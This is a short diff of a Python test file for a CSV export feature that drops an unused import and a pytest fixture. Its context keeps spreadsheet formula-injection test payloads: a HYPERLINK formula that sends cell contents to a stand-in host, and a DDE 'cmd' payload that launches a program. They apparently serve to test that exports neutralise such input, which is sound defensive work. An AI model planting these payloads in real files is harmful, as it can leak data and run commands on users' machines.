@@ -3,7 +3,6 @@
 import csv
 import io
 import json
-from collections.abc import AsyncIterator
 from typing import Any
 from uuid import UUID
 
@@ -23,14 +22,6 @@ from renkei.worker.labour import Labour
 
 PAYLOADS = ("1+1", 'HYPERLINK("http://x/?"&A1,"見る")', "cmd|' /C calc'!A0")
 FORMULA = '=HYPERLINK("http://x/?"&A1,"見る")'
-
-
-@pytest.fixture
-async def labour(settings: Settings) -> AsyncIterator[Labour]:
-    made = Labour.of(settings)
-    assert made is not None
-    yield made
-    await made.close()
 
 
 async def export(vendor: Vendor, labour: Labour, by: str | None = "nurse", **said: Any) -> dict[str, Any]:
